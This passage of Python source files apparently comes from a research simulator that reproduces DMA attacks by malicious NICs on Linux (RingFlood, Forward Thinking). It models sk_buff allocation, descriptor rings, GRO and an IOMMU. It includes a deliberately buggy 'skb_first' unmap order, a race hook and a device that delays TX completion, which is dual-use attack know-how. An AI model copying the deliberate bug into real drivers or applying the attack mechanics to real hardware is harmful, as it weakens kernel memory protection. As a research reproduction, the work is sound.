        return len(self._instruments)
