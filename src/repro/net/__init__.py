"""Linux network-stack substrate: sk_buff, skb_shared_info, rings, GRO."""

from repro.net.structs import (BoundStruct, SKB_SHARED_INFO, StructLayout,
                               UBUF_INFO, skb_data_align,
                               skb_shared_info_offset)
from repro.net.skbuff import SkBuff, SKBTX_DEV_ZEROCOPY
from repro.net.ring import RxRing, TxRing

__all__ = [
    "BoundStruct",
    "SKB_SHARED_INFO",
    "StructLayout",
    "UBUF_INFO",
    "skb_data_align",
    "skb_shared_info_offset",
    "SkBuff",
    "SKBTX_DEV_ZEROCOPY",
    "RxRing",
    "TxRing",
]
