"""skb allocation APIs: ``__alloc_skb``, ``netdev_alloc_skb``, ``build_skb``.

The choice of API is security-relevant (sections 4.1, 9.1):

* ``__alloc_skb`` draws the data buffer from ``kmalloc`` -- exposure
  happens through random slab co-location (type (d)).
* ``netdev_alloc_skb`` / ``napi_alloc_skb`` draw from ``page_frag`` --
  consecutive RX buffers share pages (type (c)); used by RX rings.
* ``build_skb`` wraps an sk_buff *around an arbitrary I/O buffer*,
  embedding skb_shared_info inside the mapped region (type (b)); "the
  OS provides this data structure layout and API rather than it being
  an isolated driver bug".

All three place ``skb_shared_info`` at the tail of the data buffer.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro import trace
from repro.kaslr.translate import AddressSpace
from repro.mem.accounting import AllocSite
from repro.mem.buddy import BuddyAllocator
from repro.mem.page_frag import PageFragAllocator
from repro.mem.phys import PAGE_SIZE, PhysicalMemory
from repro.mem.slab import SlabAllocator
from repro.net.skbuff import SkBuff
from repro.net.structs import skb_shared_info_offset, skb_truesize

#: sizeof(struct sk_buff) in Linux 5.0; lands in the kmalloc-256 cache.
SK_BUFF_STRUCT_SIZE = 232


@dataclass
class SkbAllocStats:
    """Cumulative skb-allocation totals (the metrics tier reads these)."""

    skb_allocs: int = 0       # sk_buffs built, any API
    skb_frees: int = 0        # sk_buffs fully released
    rx_buffer_allocs: int = 0  # raw RX buffers pre-posted to rings


class SkbAllocator:
    """Factory for sk_buffs over the simulated allocators."""

    def __init__(self, phys: PhysicalMemory, addr_space: AddressSpace,
                 slab: SlabAllocator, page_frag: PageFragAllocator,
                 buddy: BuddyAllocator,
                 io_slab: SlabAllocator | None = None,
                 shared_info_layout=None) -> None:
        self._phys = phys
        self._addr_space = addr_space
        self._slab = slab
        self._page_frag = page_frag
        self._buddy = buddy
        #: slab used for skb *data* buffers. Normally the general
        #: kmalloc caches (so random co-location happens); a DAMN-style
        #: defense passes a dedicated I/O slab instead (ASPLOS'18),
        #: segregating I/O data from kernel objects.
        self._io_slab = io_slab or slab
        from repro.net.structs import SKB_SHARED_INFO
        #: this build's skb_shared_info layout (__randomize_layout)
        self._shared_info_layout = shared_info_layout or SKB_SHARED_INFO
        self.stats = SkbAllocStats()

    def _alloc_skb_struct(self, cpu: int) -> int:
        """kmalloc the sk_buff metadata object itself (never mapped)."""
        return self._slab.kmalloc(
            SK_BUFF_STRUCT_SIZE, cpu=cpu,
            site=AllocSite("kmem_cache_alloc_node", 0x118, 0x2b0))

    def alloc_skb(self, size: int, *, cpu: int = 0,
                  site: AllocSite | None = None) -> SkBuff:
        """``__alloc_skb``: data buffer from kmalloc."""
        truesize = skb_truesize(size)
        data_kva = self._io_slab.kmalloc(
            truesize, cpu=cpu,
            site=site or AllocSite("__alloc_skb", 0xE0, 0x3F0))
        skb = SkBuff(
            shared_info_layout=self._shared_info_layout,
            phys=self._phys, addr_space=self._addr_space,
            skb_kva=self._alloc_skb_struct(cpu), head_kva=data_kva,
            buf_size=size, end_offset=skb_shared_info_offset(size),
            alloc_method="kmalloc", cpu=cpu)
        skb.init_shared_info()
        self.stats.skb_allocs += 1
        if trace.enabled("net"):
            trace.emit("net", "skb_alloc", api="__alloc_skb",
                       head_kva=data_kva, size=size, cpu=cpu)
        return skb

    def netdev_alloc_skb(self, size: int, *, cpu: int = 0,
                         site: AllocSite | None = None) -> SkBuff:
        """``netdev_alloc_skb``: data buffer from the per-CPU page_frag.

        This is the RX-ring allocation path that yields type (c)
        co-location: "the buffers of the driver RX ring are allocated
        sequentially, resulting in pairs of successive RX descriptors
        that map the same page" (section 5.2.2).
        """
        truesize = skb_truesize(size)
        data_kva = self._page_frag.alloc(
            truesize, cpu=cpu,
            site=site or AllocSite("netdev_alloc_skb", 0x8C, 0x1D0))
        skb = SkBuff(
            shared_info_layout=self._shared_info_layout,
            phys=self._phys, addr_space=self._addr_space,
            skb_kva=self._alloc_skb_struct(cpu), head_kva=data_kva,
            buf_size=size, end_offset=skb_shared_info_offset(size),
            alloc_method="page_frag", cpu=cpu)
        skb.init_shared_info()
        self.stats.skb_allocs += 1
        if trace.enabled("net"):
            trace.emit("net", "skb_alloc", api="netdev_alloc_skb",
                       head_kva=data_kva, size=size, cpu=cpu)
        return skb

    def napi_alloc_skb(self, size: int, *, cpu: int = 0) -> SkBuff:
        """``napi_alloc_skb``: same allocation behaviour on the NAPI path."""
        return self.netdev_alloc_skb(
            size, cpu=cpu, site=AllocSite("napi_alloc_skb", 0x74, 0x190))

    def alloc_rx_buffer(self, size: int, *, cpu: int = 0) -> tuple[int, str]:
        """Just the raw RX data buffer (driver pre-posts it to the ring).

        Returns ``(kva, alloc_method)``; a later ``build_skb`` wraps it.
        Buffers larger than the page_frag chunk (e.g. the 64 KiB HW-LRO
        buffers of section 5.3) come straight from the page allocator.
        """
        truesize = skb_truesize(size)
        site = AllocSite("netdev_alloc_frag", 0x40, 0xF0)
        self.stats.rx_buffer_allocs += 1
        if truesize > self._page_frag.cache(cpu).chunk_size:
            order = 0
            while (PAGE_SIZE << order) < truesize:
                order += 1
            pfn = self._buddy.alloc_pages(order, cpu=cpu, site=site)
            return self._addr_space.kva_of_pfn(pfn), "pages"
        return self._page_frag.alloc(truesize, cpu=cpu, site=site), \
            "page_frag"

    def free_rx_buffer(self, kva: int, method: str, *,
                       cpu: int = 0) -> None:
        """Release a raw RX buffer that never became an sk_buff (the
        driver's unwind path when the DMA mapping fails)."""
        if method == "pages":
            self._buddy.free_pages(self._addr_space.pfn_of_kva(kva),
                                   cpu=cpu)
        else:
            self._page_frag.free(kva, cpu=cpu)

    def build_skb(self, data_kva: int, size: int, *, cpu: int = 0,
                  alloc_method: str = "page_frag") -> SkBuff:
        """``build_skb``: wrap an sk_buff around an existing I/O buffer.

        "build_skb facilitates building an sk_buff around an arbitrary
        I/O buffer, in turn, embedding critical data structures inside
        the I/O buffer" (section 9.1). The shared info is (re)initialized
        inside the still-or-recently mapped buffer.
        """
        skb = SkBuff(
            shared_info_layout=self._shared_info_layout,
            phys=self._phys, addr_space=self._addr_space,
            skb_kva=self._alloc_skb_struct(cpu), head_kva=data_kva,
            buf_size=size, end_offset=skb_shared_info_offset(size),
            alloc_method=alloc_method, cpu=cpu)
        skb.init_shared_info()
        self.stats.skb_allocs += 1
        if trace.enabled("net"):
            trace.emit("net", "skb_alloc", api="build_skb",
                       head_kva=data_kva, size=size, cpu=cpu,
                       alloc_method=alloc_method)
        return skb

    def free_skb_memory(self, skb: SkBuff) -> None:
        """Release the sk_buff object and its data buffer."""
        self.stats.skb_frees += 1
        if trace.enabled("net"):
            trace.emit("net", "skb_free", head_kva=skb.head_kva,
                       alloc_method=skb.alloc_method, cpu=skb.cpu)
        self._slab.kfree(skb.skb_kva)
        if skb.alloc_method == "kmalloc":
            self._io_slab.kfree(skb.head_kva)
        elif skb.alloc_method == "pages":
            self._buddy.free_pages(self._addr_space.pfn_of_kva(skb.head_kva),
                                   cpu=skb.cpu)
        else:
            self._page_frag.free(skb.head_kva, cpu=skb.cpu)
