"""Generic Receive Offload (section 5.5, Figure 9).

"The GRO attempts to aggregate multiple TCP segments into a single
large packet. Specifically, the GRO converts multiple linear sk_buff
buffers belonging to a single TCP stream, into a single sk_buff with
multiple fragments."

This conversion is the crux of the Forward Thinking attack: drivers
produce *linear* RX skbs (empty frags), but after GRO the aggregate
carries ``frags[]`` entries -- struct page pointers written into the
shared info in memory -- and when the aggregate is forwarded as a TX
packet those pointers become device-readable.
"""

from __future__ import annotations

from collections import defaultdict
from typing import TYPE_CHECKING

from repro.net.proto import (HEADER_LEN, PROTO_TCP, PacketHeader,
                             decode_header, encode_packet)
from repro.net.skbuff import SkBuff

if TYPE_CHECKING:
    from repro.net.nic import Nic
    from repro.sim.kernel import Kernel

#: Flush an aggregation once this many segments accumulate.
GRO_MAX_SEGS = 8

#: Packet flag requesting an immediate flush (models TCP PSH).
FLAG_PUSH = 0x1


class GroEngine:
    """Per-NIC GRO state, keyed by flow id."""

    def __init__(self, kernel: "Kernel") -> None:
        self.kernel = kernel
        self._flows: dict[tuple[str, int], list[SkBuff]] = defaultdict(list)
        self.aggregated = 0

    def napi_gro_receive(self, nic: "Nic", skb: SkBuff) -> None:
        """Driver entry point ("used by 98 NIC drivers in Linux 5.0")."""
        header = decode_header(skb.data())
        if skb.protocol != PROTO_TCP or skb.frags():
            self.kernel.stack.rx(skb, nic)
            return
        key = (nic.name, skb.flow_id)
        self._flows[key].append(skb)
        if header.flags & FLAG_PUSH or len(self._flows[key]) >= GRO_MAX_SEGS:
            self.flush_flow(nic, skb.flow_id)

    def flush_flow(self, nic: "Nic", flow_id: int) -> SkBuff | None:
        """Aggregate the flow's segments into one frags-bearing skb."""
        key = (nic.name, flow_id)
        members = self._flows.pop(key, [])
        if not members:
            return None
        if len(members) == 1:
            skb = members[0]
            self.kernel.stack.rx(skb, nic)
            return skb
        head = members[0]
        total_payload = sum(m.len - HEADER_LEN for m in members)
        agg = self.kernel.skb_alloc.napi_alloc_skb(256, cpu=head.cpu)
        agg.source = "gro"
        agg.dev = head.dev
        agg.protocol = head.protocol
        agg.flow_id = head.flow_id
        agg.dst_ip = head.dst_ip
        agg.src_ip = head.src_ip
        agg.dst_port = head.dst_port
        header = PacketHeader(head.dst_ip, head.src_ip, head.protocol, 0,
                              head.flow_id, 0, head.dst_port)
        wire = bytearray(encode_packet(header, b""))
        wire[12:14] = total_payload.to_bytes(2, "little")
        agg.put(bytes(wire[:HEADER_LEN]))
        for member in members:
            # Each member's payload becomes one frag: (struct page of the
            # member's data page, in-page offset of the payload, length).
            payload_kva = member.head_kva + HEADER_LEN
            paddr = self.kernel.addr_space.paddr_of_kva(payload_kva)
            agg.add_frag(paddr >> 12, paddr & 0xFFF,
                         member.len - HEADER_LEN)
            agg.gro_members.append(member)
        self.aggregated += len(members)
        self.kernel.stack.rx(agg, nic)
        return agg

    def flush_all(self, nic: "Nic") -> None:
        for (nic_name, flow_id) in list(self._flows):
            if nic_name == nic.name:
                self.flush_flow(nic, flow_id)
