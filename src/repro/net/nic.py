"""NIC driver + device model.

The class contains both halves of the contract:

* **kernel-side driver** methods (``refill_rx``, ``napi_poll``,
  ``start_xmit``, ``tx_clean``) that use the DMA API and skb allocators
  the way real drivers do -- including, optionally, the i40e-style
  ordering bug where the driver "first create[s] an sk_buff and only
  then unmap[s] the buffer" (section 5.2.2, path (i));
* **device-side** methods (``device_receive``, ``device_fetch_tx``,
  ``device_complete_tx``) that touch memory exclusively through the
  IOMMU. A malicious device gets no extra powers beyond calling these
  plus raw ``iommu.device_read/write`` on IOVAs it knows.

``rx_buf_size`` controls the driver's memory footprint: 1536-byte
buffers model Linux 5.0's mlx5 configuration (2 KiB per entry), while
``hw_lro=True`` switches to 64 KiB buffers, modeling the kernel 4.15
configuration whose 2 GiB footprint made RingFlood so reliable
(section 5.3).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from repro import faults
from repro.errors import NetStackError, OutOfMemoryError
from repro.mem.accounting import AllocSite
from repro.net.proto import HEADER_LEN, decode_header
from repro.net.ring import RxDescriptor, RxRing, TxDescriptor, TxRing
from repro.net.skbuff import SkBuff
from repro.net.structs import skb_truesize

if TYPE_CHECKING:
    from repro.sim.kernel import Kernel

#: Driver TX watchdog (section 5.4: "The T/O is set by the driver,
#: usually to a few seconds").
TX_TIMEOUT_US = 5_000_000.0

#: RX buffer payload capacity for a 1500-byte MTU (2 KiB-class entry).
DEFAULT_RX_BUF_SIZE = 1536

#: HW LRO RX buffer: "each RX buffer is 64 KB, regardless of the MTU".
LRO_RX_BUF_SIZE = 65536 - 384  # leave room for the shared info tail


@dataclass
class NicStats:
    rx_packets: int = 0
    tx_packets: int = 0
    tx_timeouts: int = 0
    rx_ring_resets: int = 0
    rx_refill_failed: int = 0  # alloc/map failures absorbed by refill
    rx_ring_drops: int = 0     # injected descriptor drops
    rx_truncated: int = 0      # injected truncated DMA writes
    tx_dropped: int = 0        # TX skbs dropped on DMA map failure


class Nic:
    """One NIC: per-CPU RX/TX rings over the shared IOMMU."""

    def __init__(self, kernel: "Kernel", name: str, *,
                 rx_ring_size: int = 256, tx_ring_size: int = 256,
                 rx_buf_size: int = DEFAULT_RX_BUF_SIZE,
                 hw_lro: bool = False,
                 unmap_order: str = "unmap_first") -> None:
        if unmap_order not in ("unmap_first", "skb_first"):
            raise NetStackError(f"bad unmap_order {unmap_order!r}")
        self.kernel = kernel
        self.name = name
        self.unmap_order = unmap_order
        self.hw_lro = hw_lro
        self.rx_buf_size = LRO_RX_BUF_SIZE if hw_lro else rx_buf_size
        self.stats = NicStats()
        kernel.iommu.attach_device(name)
        self.rx_rings = {cpu: RxRing(rx_ring_size, cpu)
                         for cpu in range(kernel.nr_cpus)}
        self.tx_rings = {cpu: TxRing(tx_ring_size, cpu)
                         for cpu in range(kernel.nr_cpus)}
        self._tx_posted_at: dict[tuple[int, int], float] = {}
        #: test/attack hook fired between build_skb and unmap when the
        #: driver uses the buggy "skb_first" order -- the race of
        #: Figure 7 path (i), where the device can still write through
        #: the live mapping after the CPU initialized the shared info.
        self.rx_race_hook = None

    # ------------------------------------------------------------------
    # Kernel-side driver paths
    # ------------------------------------------------------------------

    @property
    def rx_truesize(self) -> int:
        return skb_truesize(self.rx_buf_size)

    def refill_rx(self, *, cpu: int = 0, count: int | None = None) -> int:
        """Allocate, map (WRITE), and post RX buffers.

        The whole buffer -- payload area *and* the skb_shared_info tail
        -- is mapped with WRITE permission, faithfully to the drivers
        the paper analyzed.
        """
        ring = self.rx_rings[cpu]
        if count is None:
            count = ring.nr_desc - 1
        posted = 0
        for _ in range(count):
            if len(ring.posted_descriptors()) >= ring.nr_desc - 1:
                break
            try:
                kva, method = self.kernel.skb_alloc.alloc_rx_buffer(
                    self.rx_buf_size, cpu=cpu)
            except OutOfMemoryError:
                # real drivers tolerate a short refill: the ring runs
                # with fewer buffers until the next NAPI pass tops up
                self.stats.rx_refill_failed += 1
                break
            try:
                iova = self.kernel.dma.dma_map_single(
                    self.name, kva, self.rx_truesize, "DMA_FROM_DEVICE",
                    site=AllocSite(f"{self.name}_alloc_rx_buffers",
                                   0x1A0, 0x300))
            except faults.InjectedDmaMapError:
                self.kernel.skb_alloc.free_rx_buffer(kva, method,
                                                     cpu=cpu)
                self.stats.rx_refill_failed += 1
                break
            desc = ring.post(iova, kva, self.rx_buf_size)
            desc.alloc_method = method  # type: ignore[attr-defined]
            posted += 1
        return posted

    def napi_poll(self, *, cpu: int = 0) -> list[SkBuff]:
        """Reap completed RX descriptors into sk_buffs and push them up.

        ``unmap_order`` selects between path (i) of Figure 7 (buggy:
        build the skb -- initializing shared info in the still-mapped
        buffer -- before unmapping) and the correct order.
        """
        ring = self.rx_rings[cpu]
        delivered = []
        for desc in ring.reap_completed():
            method = getattr(desc, "alloc_method", "page_frag")
            if self.unmap_order == "skb_first":
                skb = self._build_rx_skb(desc, cpu, method)
                if self.rx_race_hook is not None:
                    self.rx_race_hook(skb, desc)
                self._unmap_rx(desc)
            else:
                self._unmap_rx(desc)
                skb = self._build_rx_skb(desc, cpu, method)
            self.stats.rx_packets += 1
            delivered.append(skb)
        self.refill_rx(cpu=cpu, count=len(delivered))
        for skb in delivered:
            self.kernel.gro.napi_gro_receive(self, skb)
        return delivered

    def _unmap_rx(self, desc: RxDescriptor) -> None:
        self.kernel.dma.dma_unmap_single(
            self.name, desc.iova, self.rx_truesize, "DMA_FROM_DEVICE")

    def _build_rx_skb(self, desc: RxDescriptor, cpu: int,
                      method: str) -> SkBuff:
        skb = self.kernel.skb_alloc.build_skb(
            desc.kva, desc.buf_size, cpu=cpu, alloc_method=method)
        skb.len = desc.pkt_len
        skb.dev = self.name
        skb.source = "rx"
        header = decode_header(skb.data())
        skb.protocol = header.proto
        skb.flow_id = header.flow_id
        skb.dst_ip = header.dst_ip
        skb.src_ip = header.src_ip
        skb.dst_port = header.dst_port
        return skb

    def start_xmit(self, skb: SkBuff, *,
                   cpu: int = 0) -> TxDescriptor | None:
        """Map a TX skb for READ and post it to the device.

        Maps the linear area by KVA/length; page granularity means the
        device can *read the whole page* -- including the shared info
        and anything co-located (sections 5.4, 9.1). Frags are mapped
        page-by-page via ``dma_map_page``.

        A DMA mapping failure drops the packet (freeing the skb) and
        returns None, as ``ndo_start_xmit`` implementations do on
        ``dma_mapping_error``.
        """
        ring = self.tx_rings[cpu]
        try:
            linear_iova = self.kernel.dma.dma_map_single(
                self.name, skb.head_kva, max(skb.len, 1),
                "DMA_TO_DEVICE",
                site=AllocSite(f"{self.name}_xmit", 0x2C0, 0x6A0))
        except faults.InjectedDmaMapError:
            self.stats.tx_dropped += 1
            self.kernel.stack.kfree_skb(skb)
            return None
        frag_iovas = []
        for frag in skb.frags():
            pfn = skb.frag_pfn(frag)
            iova = self.kernel.dma.dma_map_page(
                self.name, pfn, frag.page_offset, frag.size,
                "DMA_TO_DEVICE",
                site=AllocSite(f"{self.name}_xmit_frag", 0x310, 0x6A0))
            frag_iovas.append((iova, frag.size))
        desc = ring.post(skb, linear_iova, max(skb.len, 1), frag_iovas)
        self._tx_posted_at[(cpu, desc.index)] = self.kernel.clock.now_us
        self.stats.tx_packets += 1
        return desc

    def tx_clean(self, *, cpu: int = 0) -> int:
        """Reap completed TX descriptors: unmap and release the skbs."""
        ring = self.tx_rings[cpu]
        cleaned = 0
        for desc in ring.reap_completed():
            self._unmap_tx(desc)
            self._tx_posted_at.pop((cpu, desc.index), None)
            self.kernel.stack.kfree_skb(desc.skb)
            desc.skb = None
            cleaned += 1
        return cleaned

    def _unmap_tx(self, desc: TxDescriptor) -> None:
        self.kernel.dma.dma_unmap_single(
            self.name, desc.linear_iova, desc.linear_len, "DMA_TO_DEVICE")
        for iova, size in desc.frag_iovas:
            self.kernel.dma.dma_unmap_page(
                self.name, iova, size, "DMA_TO_DEVICE")

    def check_tx_timeout(self, *, cpu: int = 0) -> bool:
        """Driver watchdog: a TX completion that "fails to appear in due
        time ... triggers a TX T/O error that flushes all buffers and
        resets the driver" (section 5.4)."""
        now = self.kernel.clock.now_us
        ring = self.tx_rings[cpu]
        for desc in ring.uncompleted():
            posted = self._tx_posted_at.get((cpu, desc.index))
            if posted is not None and now - posted > TX_TIMEOUT_US:
                self.stats.tx_timeouts += 1
                desc.completed = True  # watchdog forces completion
        if self.stats.tx_timeouts:
            return True
        return False

    # ------------------------------------------------------------------
    # Device-side paths (all memory access goes through the IOMMU)
    # ------------------------------------------------------------------

    def device_receive(self, wire_bytes: bytes, *, cpu: int = 0) -> bool:
        """The device DMAs a received packet into the next RX buffer."""
        if "net.ring.rx_drop" in faults.active_sites \
                and faults.fires("net.ring.rx_drop"):
            # dropped on the wire: the descriptor stays posted
            self.stats.rx_ring_drops += 1
            return False
        if "net.nic.truncate" in faults.active_sites:
            firing = faults.fires("net.nic.truncate")
            if firing is not None:
                # partial DMA write; the header always lands intact
                keep = max(HEADER_LEN,
                           int(len(wire_bytes) * (firing.arg or 0.5)))
                wire_bytes = wire_bytes[:keep]
                self.stats.rx_truncated += 1
        ring = self.rx_rings[cpu]
        desc = ring.next_for_device()
        if desc is None:
            return False
        if len(wire_bytes) > desc.buf_size:
            raise NetStackError(
                f"packet of {len(wire_bytes)} exceeds RX buffer "
                f"{desc.buf_size}")
        self.kernel.iommu.device_write(self.name, desc.iova, wire_bytes)
        ring.device_complete(desc, len(wire_bytes))
        return True

    def device_fetch_tx(self, *, cpu: int = 0,
                        complete: bool = True) -> list[tuple[TxDescriptor,
                                                             bytes]]:
        """The device DMA-reads posted TX packets off the ring.

        With ``complete=False`` the device *withholds* the completion --
        the malicious delay of section 5.4 that keeps the TX mapping
        (and the echoed malicious buffer) alive.
        """
        ring = self.tx_rings[cpu]
        fetched = []
        for desc in ring.pending_for_device():
            data = self.kernel.iommu.device_read(
                self.name, desc.linear_iova, desc.linear_len)
            for iova, size in desc.frag_iovas:
                data += self.kernel.iommu.device_read(self.name, iova, size)
            desc.fetched = True
            if complete:
                desc.completed = True
            fetched.append((desc, data))
        return fetched

    def device_complete_tx(self, desc: TxDescriptor) -> None:
        if not desc.fetched:
            raise NetStackError("completing a TX descriptor never fetched")
        desc.completed = True

    def device_visible_rx(self, *, cpu: int = 0) -> list[tuple[int, int]]:
        """(iova, buf_size) of every posted RX slot -- what the device
        legitimately learns from the descriptor ring."""
        return [(d.iova, d.buf_size)
                for d in self.rx_rings[cpu].posted_descriptors()]
