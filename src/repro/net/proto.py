"""Minimal wire format for simulated packets.

The device writes raw bytes into RX buffers; the kernel parses headers
*from memory*. Keeping the parse on the memory bytes (rather than on a
Python-side object) matters: a malicious NIC fully controls routing by
what it writes -- which is how the Forward Thinking attack (section 5.5)
injects an RX packet that the victim then forwards.

Header layout (16 bytes, little-endian):

====== ====== =============================
offset size   field
====== ====== =============================
0      4      dst_ip
4      4      src_ip
8      1      proto (6 = TCP, 17 = UDP)
9      1      flags
10     2      flow_id
12     2      payload_len
14     2      dst_port
====== ====== =============================
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

from repro.errors import NetStackError

HEADER_LEN = 16
_HDR = struct.Struct("<IIBBHHH")

PROTO_TCP = 6
PROTO_UDP = 17

#: Default MTU; RX buffers are sized for it (section 5.2.2: "the default
#: MTU size is 1500 B").
MTU = 1500


@dataclass(frozen=True)
class PacketHeader:
    dst_ip: int
    src_ip: int
    proto: int
    flags: int
    flow_id: int
    payload_len: int
    dst_port: int


def encode_packet(header: PacketHeader, payload: bytes) -> bytes:
    """Wire bytes for a packet: header then payload."""
    if header.payload_len != len(payload):
        raise NetStackError(
            f"header says {header.payload_len} payload bytes, "
            f"got {len(payload)}")
    return _HDR.pack(header.dst_ip, header.src_ip, header.proto,
                     header.flags, header.flow_id, header.payload_len,
                     header.dst_port) + payload


def decode_header(data: bytes) -> PacketHeader:
    """Parse a header from the first 16 bytes of *data*."""
    if len(data) < HEADER_LEN:
        raise NetStackError(f"short packet: {len(data)} bytes")
    fields = _HDR.unpack_from(data, 0)
    return PacketHeader(*fields)


def make_packet(*, dst_ip: int, src_ip: int = 0x0A00_0001,
                proto: int = PROTO_TCP, flags: int = 0, flow_id: int = 0,
                dst_port: int = 0, payload: bytes = b"") -> bytes:
    """Convenience constructor used by workloads and attacks."""
    header = PacketHeader(dst_ip, src_ip, proto, flags, flow_id,
                          len(payload), dst_port)
    return encode_packet(header, payload)
