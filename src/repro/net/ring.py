"""NIC descriptor rings.

Descriptors hold IOVAs -- the ring is the device-visible contract, so a
malicious device legitimately knows every posted IOVA and buffer size
(it must, to operate at all). That knowledge is what the paper's
attacks start from: "the device has all the IOVA for the RX buffers,
but not the KVA" (section 5.3).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro import trace
from repro.errors import NetStackError
from repro.net.skbuff import SkBuff


@dataclass
class RxDescriptor:
    index: int
    iova: int = 0
    kva: int = 0          # kernel-side only; never visible to the device
    buf_size: int = 0
    posted: bool = False
    completed: bool = False
    pkt_len: int = 0
    alloc_method: str = "page_frag"


@dataclass
class TxDescriptor:
    index: int
    skb: SkBuff | None = None
    linear_iova: int = 0
    linear_len: int = 0
    frag_iovas: list[tuple[int, int]] = field(default_factory=list)
    posted: bool = False
    fetched: bool = False
    completed: bool = False


class RxRing:
    """One receive ring (one per CPU, per the paper's Figure 5)."""

    def __init__(self, nr_desc: int, cpu: int) -> None:
        self.cpu = cpu
        self.descriptors = [RxDescriptor(i) for i in range(nr_desc)]
        self._next_to_use = 0    # kernel posts here
        self._next_to_fill = 0   # device writes here
        self._next_to_clean = 0  # kernel reaps here

    @property
    def nr_desc(self) -> int:
        return len(self.descriptors)

    def post(self, iova: int, kva: int, buf_size: int) -> RxDescriptor:
        desc = self.descriptors[self._next_to_use]
        if desc.posted:
            raise NetStackError(f"RX ring full (desc {desc.index} posted)")
        desc.iova = iova
        desc.kva = kva
        desc.buf_size = buf_size
        desc.posted = True
        desc.completed = False
        desc.pkt_len = 0
        self._next_to_use = (self._next_to_use + 1) % self.nr_desc
        if trace.enabled("net"):
            trace.emit("net", "rx_post", cpu=self.cpu, slot=desc.index,
                       iova=iova, buf_size=buf_size)
        return desc

    def next_for_device(self) -> RxDescriptor | None:
        """The descriptor the device will fill next, or None if starved."""
        desc = self.descriptors[self._next_to_fill]
        if not desc.posted or desc.completed:
            return None
        return desc

    def device_complete(self, desc: RxDescriptor, pkt_len: int) -> None:
        if not desc.posted or desc.completed:
            raise NetStackError(f"bad RX completion on desc {desc.index}")
        desc.completed = True
        desc.pkt_len = pkt_len
        self._next_to_fill = (self._next_to_fill + 1) % self.nr_desc
        if trace.enabled("net"):
            trace.emit("net", "rx_complete", cpu=self.cpu,
                       slot=desc.index, pkt_len=pkt_len)

    def reap_completed(self) -> list[RxDescriptor]:
        """Kernel side: collect completed descriptors in order."""
        reaped = []
        while True:
            desc = self.descriptors[self._next_to_clean]
            if not (desc.posted and desc.completed):
                break
            desc.posted = False
            reaped.append(desc)
            self._next_to_clean = (self._next_to_clean + 1) % self.nr_desc
        if reaped and trace.enabled("net"):
            trace.emit("net", "rx_reap", cpu=self.cpu,
                       nr_desc=len(reaped),
                       slots=[d.index for d in reaped])
        return reaped

    def posted_descriptors(self) -> list[RxDescriptor]:
        """Device-visible view: every posted, not-yet-completed slot."""
        return [d for d in self.descriptors if d.posted and not d.completed]


class TxRing:
    """One transmit ring."""

    def __init__(self, nr_desc: int, cpu: int) -> None:
        self.cpu = cpu
        self.descriptors = [TxDescriptor(i) for i in range(nr_desc)]
        self._next_to_use = 0
        self._next_to_clean = 0

    @property
    def nr_desc(self) -> int:
        return len(self.descriptors)

    def post(self, skb: SkBuff, linear_iova: int, linear_len: int,
             frag_iovas: list[tuple[int, int]]) -> TxDescriptor:
        desc = self.descriptors[self._next_to_use]
        if desc.posted:
            raise NetStackError(f"TX ring full (desc {desc.index} posted)")
        desc.skb = skb
        desc.linear_iova = linear_iova
        desc.linear_len = linear_len
        desc.frag_iovas = list(frag_iovas)
        desc.posted = True
        desc.fetched = False
        desc.completed = False
        self._next_to_use = (self._next_to_use + 1) % self.nr_desc
        if trace.enabled("net"):
            trace.emit("net", "tx_post", cpu=self.cpu, slot=desc.index,
                       linear_iova=linear_iova, linear_len=linear_len,
                       nr_frags=len(desc.frag_iovas))
        return desc

    def pending_for_device(self) -> list[TxDescriptor]:
        return [d for d in self.descriptors
                if d.posted and not d.fetched]

    def uncompleted(self) -> list[TxDescriptor]:
        """Fetched but not completed (the device may *delay* these:
        section 5.4 step 2 -- "delays the completion notification of the
        TX packets so the malicious buffer is not released prematurely").
        """
        return [d for d in self.descriptors
                if d.posted and d.fetched and not d.completed]

    def reap_completed(self) -> list[TxDescriptor]:
        reaped = []
        while True:
            desc = self.descriptors[self._next_to_clean]
            if not (desc.posted and desc.completed):
                break
            desc.posted = False
            reaped.append(desc)
            self._next_to_clean = (self._next_to_clean + 1) % self.nr_desc
        if reaped and trace.enabled("net"):
            trace.emit("net", "tx_reap", cpu=self.cpu,
                       nr_desc=len(reaped),
                       slots=[d.index for d in reaped])
        return reaped
