"""``struct sk_buff``: the Linux network packet descriptor (section 5.1).

Two facts from the paper shape this model:

* The sk_buff *metadata* object is allocated separately from the data
  buffer and "is *never* intentionally mapped to the device". Here the
  sk_buff's own backing object comes from ``kmalloc`` and is only
  exposed if slab co-location randomly places it on a mapped page.
* ``struct skb_shared_info``, "in contrast to sk_buff, is *always*
  allocated as part of the data buffer. Therefore it is *always* mapped
  to the device" with the packet's permissions. The accessors below
  read and write the shared info *in simulated memory*, so device-side
  modifications are observed by the kernel paths exactly as on real
  hardware.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field

from repro.errors import NetStackError
from repro.kaslr.translate import AddressSpace
from repro.mem.phys import PAGE_SHIFT, PhysicalMemory
from repro.net.structs import BoundStruct, SKB_SHARED_INFO, StructLayout

#: tx_flags bit: buffer completion must invoke the zerocopy callback
#: hanging off destructor_arg (Linux's SKBTX_DEV_ZEROCOPY).
SKBTX_DEV_ZEROCOPY = 1 << 3

_skb_ids = itertools.count(1)


@dataclass
class SkbFrag:
    """Kernel-side view of one frags[] entry."""

    page_ptr: int      # struct page address (vmemmap)
    page_offset: int
    size: int


@dataclass
class SkBuff:
    """One packet. Addresses are KVAs; contents live in simulated memory."""

    phys: PhysicalMemory
    addr_space: AddressSpace
    skb_kva: int           # the kmalloc'd sk_buff object itself
    head_kva: int          # start of the data buffer
    buf_size: int          # payload capacity (shared_info sits after it)
    end_offset: int        # offset of skb_shared_info within the buffer
    alloc_method: str      # "kmalloc" | "page_frag" | "build_skb"
    cpu: int = 0
    len: int = 0           # bytes in the linear area
    data_len: int = 0      # bytes held in frags
    protocol: int = 0
    flow_id: int = 0
    dst_ip: int = 0
    src_ip: int = 0
    dst_port: int = 0
    dev: str = ""
    source: str = ""       # "rx" | "tx" | "gro" | "clone"
    skb_id: int = field(default_factory=lambda: next(_skb_ids))
    freed: bool = False
    #: member skbs whose data pages this (GRO aggregate) skb references
    gro_members: list["SkBuff"] = field(default_factory=list)
    #: page_frag buffers this skb's frags own (freed with the skb)
